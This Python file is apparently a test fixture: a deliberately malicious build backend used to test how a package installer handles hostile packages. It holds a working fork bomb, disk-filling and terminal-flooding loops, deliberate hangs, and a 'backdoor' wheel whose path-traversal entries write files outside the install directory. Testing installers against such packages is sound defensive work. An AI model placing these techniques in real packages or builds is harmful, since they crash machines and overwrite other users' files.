"""A build backend of the attacker's; the file `how` beside it selects an additional deed."""

import os
import sys
import time
import zipfile

sys.path.insert(0, "/home/mallory")
import payload  # noqa: E402


def build_wheel(directory, settings=None, metadata=None):
    payload.report("backend")
    with open(os.path.join(os.path.dirname(__file__), "how")) as file:
        how = file.read().strip()
    if how.startswith("waits"):
        # The accomplice waits for this file.
        open(os.path.join(os.path.dirname(__file__), "at-work"), "w").close()
        for _ in range(1000):
            if os.path.exists("/home/mallory/go"):
                break
            time.sleep(0.01)
    if how.endswith("fails"):
        raise RuntimeError("it fails")
    if how == "slow":
        time.sleep(12)
    if how.endswith("hangs"):
        time.sleep(4713)
    if how == "forks":
        # Every child forks as well, until no more processes are available.
        try:
            while True:
                os.fork()
        except OSError:
            os.execlp("sleep", "sleep", "4711")
    if how == "fills":
        with open("/home/mallory/place/venv/filler", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    if how == "floods":
        while True:
            os.write(1, b"\x1b[2J flood\n" * 4096)
            os.write(2, b"\x1b[2J flood\n" * 4096)
    name = "backdoor-1.0-py3-none-any.whl"
    info = "backdoor-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("backdoor.py", "import sys; sys.path.insert(0, '/home/mallory')\nimport payload; payload.report('module')\n")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: backdoor\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        if how == "leads out":
            wheel.writestr(f"{info}/entry_points.txt", "[console_scripts]\n../../../planted = backdoor:main\n")
            wheel.writestr("../../../../../../../../home/bob/planted", "planted")
            wheel.writestr("/home/mallory/elsewhere", "planted")
            wheel.writestr("backdoor-1.0.data/scripts/../../../../../../../../../home/mallory/elsewhere", "planted")
        wheel.writestr(f"{info}/RECORD", "")
    return name
